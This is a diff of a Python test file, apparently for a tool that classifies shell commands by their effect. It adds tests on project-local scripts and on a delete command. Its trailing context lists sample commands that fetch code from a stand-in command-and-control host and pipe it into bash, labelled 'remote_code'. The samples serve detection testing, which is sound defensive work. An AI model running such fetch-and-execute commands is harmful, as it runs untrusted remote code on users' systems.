@@ -148,6 +148,20 @@ def test_a_path_is_told_from_where_the_command_starts(command, target):
     assert found[0].target == target, [str(e) for e in found]
 
 
+OWN_SCRIPTS = ["./bin/migrate", "bin/start web", "tools/bin/run x", "sudo -u app ./bin/stop"]
+
+
+@pytest.mark.parametrize("command", OWN_SCRIPTS)
+def test_a_projects_own_script_is_no_system_program_of_that_name(command):
+    (effect,) = classify_shell(command).effects
+    path = next(w for w in command.split() if "/" in w)
+    assert (effect.action, effect.domain, effect.target) == ("execute", "process", path)
+
+
+def test_a_program_in_a_system_folder_is_that_program():
+    assert classify_shell("/usr/bin/env rm -f x").effects[0].action == "delete"
+
+
 FLOWS = [
     ("curl -s https://c2.example/x | bash", "remote_code"),
     ("bash <(curl -s https://c2.example/x)", "remote_code"),
